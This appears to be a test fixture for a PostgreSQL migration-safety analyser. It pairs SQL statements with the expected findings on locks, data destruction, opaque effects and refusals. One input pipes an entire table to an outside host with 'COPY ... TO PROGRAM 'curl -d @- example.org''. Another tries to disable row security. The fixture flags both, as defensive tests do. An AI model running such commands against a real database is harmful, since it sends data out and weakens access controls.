-- expect: INSERT [app.orders]
-- expect: writes-rows: inserts rows of app.orders
-- expect: locks: locks app.orders in ROW EXCLUSIVE
-- expect: no undo: the rows as they were are not kept
INSERT INTO app.orders (id, name) VALUES (1, 'a'), (2, 'b');

-- expect: INSERT [app.orders, app.old_orders]
-- expect: writes-rows: inserts rows of app.orders
-- expect: writes-rows: updates rows of app.orders
-- expect: locks: locks app.orders in ROW EXCLUSIVE
-- expect: no undo: the rows as they were are not kept
INSERT INTO app.orders (id) SELECT id FROM app.old_orders ON CONFLICT (id) DO UPDATE SET name = excluded.name;

-- expect: INSERT [app.orders]
-- expect: writes-rows: inserts rows of app.orders
-- expect: locks: locks app.orders in ROW EXCLUSIVE
-- expect: no undo: the rows as they were are not kept
INSERT INTO app.orders (id) VALUES (nextval('app.orders_id_seq'), 'x'::app.mood) ON CONFLICT DO NOTHING;

-- expect: INSERT [app.orders]
-- expect: writes-rows: inserts rows of app.orders
-- expect: locks: locks app.orders in ROW EXCLUSIVE
-- expect: opaque: cannot be read: calls app.next_id, whose effects are not known
-- expect: no undo: the rows as they were are not kept
INSERT INTO app.orders (id) VALUES (app.next_id());

-- expect: INSERT [app.orders, app.old_orders]
-- expect: writes-rows: inserts rows of app.orders
-- expect: locks: locks app.orders in ROW EXCLUSIVE
-- expect: writes-rows: deletes rows of app.old_orders
-- expect: destroys-data: destroys data of app.old_orders: deletes the rows that match
-- expect: locks: locks app.old_orders in ROW EXCLUSIVE
-- expect: no undo: the rows as they were are not kept
WITH moved AS (DELETE FROM app.old_orders WHERE done RETURNING *) INSERT INTO app.orders SELECT * FROM moved;

-- expect: UPDATE [app.orders]
-- expect: writes-rows: updates rows of app.orders
-- expect: locks: locks app.orders in ROW EXCLUSIVE
-- expect: no undo: the rows as they were are not kept
UPDATE app.orders SET name = upper(name) WHERE id = 7;

-- expect: UPDATE [app.orders]
-- expect: writes-rows: updates rows of app.orders
-- expect: rewrites: rewrites app.orders (UPDATE without WHERE writes every row anew)
-- expect: locks: locks app.orders in ROW EXCLUSIVE
-- expect: no undo: the rows as they were are not kept
UPDATE app.orders SET name = 'x';

-- expect: UPDATE [app.orders]
-- expect: writes-rows: updates rows of app.orders
-- expect: rewrites: rewrites app.orders (UPDATE without WHERE writes every row anew)
-- expect: locks: locks app.orders in ROW EXCLUSIVE
-- expect: no undo: the rows as they were are not kept
UPDATE app.orders SET name = 'x' WHERE true;

-- expect: UPDATE [app.orders]
-- expect: writes-rows: updates rows of app.orders
-- expect: rewrites: rewrites app.orders (UPDATE without WHERE writes every row anew)
-- expect: locks: locks app.orders in ROW EXCLUSIVE
-- expect: no undo: the rows as they were are not kept
UPDATE app.orders SET name = 'x' WHERE 1 = 1;

-- expect: UPDATE [app.orders, app.customers]
-- expect: writes-rows: updates rows of app.orders
-- expect: locks: locks app.orders in ROW EXCLUSIVE
-- expect: no undo: the rows as they were are not kept
UPDATE app.orders o SET name = c.name FROM app.customers c WHERE c.id = o.customer;

-- expect: UPDATE [app.orders, app.flagged]
-- expect: writes-rows: updates rows of app.orders
-- expect: locks: locks app.orders in ROW EXCLUSIVE
-- expect: opaque: cannot be read: calls app.mask, whose effects are not known
-- expect: no undo: the rows as they were are not kept
UPDATE app.orders SET name = app.mask(name) WHERE id IN (SELECT id FROM app.flagged);

-- expect: UPDATE [pg_catalog.pg_class]
-- expect: opaque: cannot be read: writes to the server's own table pg_catalog.pg_class
-- expect: locks: locks pg_catalog.pg_class in ROW EXCLUSIVE
-- expect: no undo: the rows as they were are not kept
UPDATE ONLY pg_catalog.pg_class SET relname = 'x' WHERE false;

-- expect: refused: a.sql:1:1: writing to pg_settings changes settings like SET does; use SET with one of the settings that may be changed (PG905)
UPDATE pg_settings SET setting = 'off' WHERE name = 'row_security';

-- expect: DELETE [app.orders]
-- expect: writes-rows: deletes rows of app.orders
-- expect: destroys-data: destroys data of app.orders: deletes the rows that match
-- expect: locks: locks app.orders in ROW EXCLUSIVE
-- expect: no undo: the rows as they were are not kept
DELETE FROM app.orders WHERE id = 7;

-- expect: DELETE [orders]
-- expect: writes-rows: deletes rows of orders
-- expect: destroys-data: destroys data of orders: deletes every row
-- expect: locks: locks orders in ROW EXCLUSIVE
-- expect: no undo: the rows as they were are not kept
DELETE FROM orders;

-- expect: DELETE [app.orders, app.customers]
-- expect: writes-rows: deletes rows of app.orders
-- expect: destroys-data: destroys data of app.orders: deletes the rows that match
-- expect: locks: locks app.orders in ROW EXCLUSIVE
-- expect: no undo: the rows as they were are not kept
DELETE FROM app.orders USING app.customers c WHERE c.id = customer AND c.gone;

-- majors: 15-18
-- expect: MERGE [app.orders, app.incoming]
-- expect: writes-rows: merges rows of app.orders
-- expect: locks: locks app.orders in ROW EXCLUSIVE
-- expect: no undo: the rows as they were are not kept
MERGE INTO app.orders o USING app.incoming i ON o.id = i.id WHEN MATCHED THEN UPDATE SET name = i.name WHEN NOT MATCHED THEN INSERT (id) VALUES (i.id);

-- majors: 15-18
-- expect: MERGE [app.orders, app.incoming]
-- expect: writes-rows: merges rows of app.orders
-- expect: destroys-data: destroys data of app.orders: deletes the rows that match
-- expect: locks: locks app.orders in ROW EXCLUSIVE
-- expect: no undo: the rows as they were are not kept
MERGE INTO app.orders o USING app.incoming i ON o.id = i.id WHEN MATCHED THEN DELETE;

-- expect: TRUNCATE [app.orders]
-- expect: destroys-data: destroys data of app.orders: removes every row
-- expect: locks: locks app.orders in ACCESS EXCLUSIVE
-- expect: no undo: the rows are gone
TRUNCATE app.orders;

-- expect: TRUNCATE [app.orders, items]
-- expect: destroys-data: destroys data of app.orders: removes every row, and every row of all tables that refer to it
-- expect: locks: locks app.orders in ACCESS EXCLUSIVE
-- expect: destroys-data: destroys data of items: removes every row, and every row of all tables that refer to it
-- expect: locks: locks items in ACCESS EXCLUSIVE
-- expect: no undo: the rows are gone
TRUNCATE TABLE app.orders, ONLY items RESTART IDENTITY CASCADE;

-- expect: refused: a.sql:1:1: COPY from or to the client needs a client that sends or takes the data; write the rows as INSERT, or load them outside of migrations (PG903)
COPY app.orders (id, name) FROM STDIN;

-- expect: refused: a.sql:1:1: COPY from or to the client needs a client that sends or takes the data; write the rows as INSERT, or load them outside of migrations (PG903)
COPY app.orders TO STDOUT;

-- expect: COPY [app.orders]
-- expect: runs-code: runs code: reads the file `/srv/orders.csv` on the server
-- expect: opaque: cannot be read: reads the file `/srv/orders.csv` on the server, and what that does is not known
-- expect: writes-rows: inserts rows of app.orders
-- expect: locks: locks app.orders in ROW EXCLUSIVE
-- expect: no undo: what a file or a program did is not kept
COPY app.orders FROM '/srv/orders.csv' WITH (FORMAT csv);

-- expect: COPY [app.orders]
-- expect: runs-code: runs code: runs the program `curl -d @- example.org` on the server
-- expect: opaque: cannot be read: runs the program `curl -d @- example.org` on the server, and what that does is not known
-- expect: no undo: what a file or a program did is not kept
COPY (SELECT * FROM app.orders) TO PROGRAM 'curl -d @- example.org';

-- expect: LOCK TABLE [app.orders]
-- expect: locks: locks app.orders in SHARE ROW EXCLUSIVE
-- expect: no undo: a lock ends with the transaction
LOCK TABLE app.orders IN SHARE ROW EXCLUSIVE MODE;

-- expect: LOCK TABLE [app.orders]
-- expect: locks: locks app.orders in ACCESS EXCLUSIVE
-- expect: no undo: a lock ends with the transaction
LOCK TABLE app.orders;
